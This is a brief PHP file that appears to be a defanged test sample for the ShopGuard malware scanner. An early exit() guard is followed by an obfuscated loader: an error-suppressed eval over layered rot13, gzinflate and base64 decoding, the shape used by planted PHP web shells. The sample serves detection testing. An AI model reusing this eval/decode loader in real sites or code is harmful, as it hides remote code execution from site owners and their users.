<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
@eval(str_rot13(gzinflate(str_rot13(base64_decode('KyooTVJQTytNSi7JyEstVCgsKs5LLCkqVEjLq0quLFK3BgA=')))));
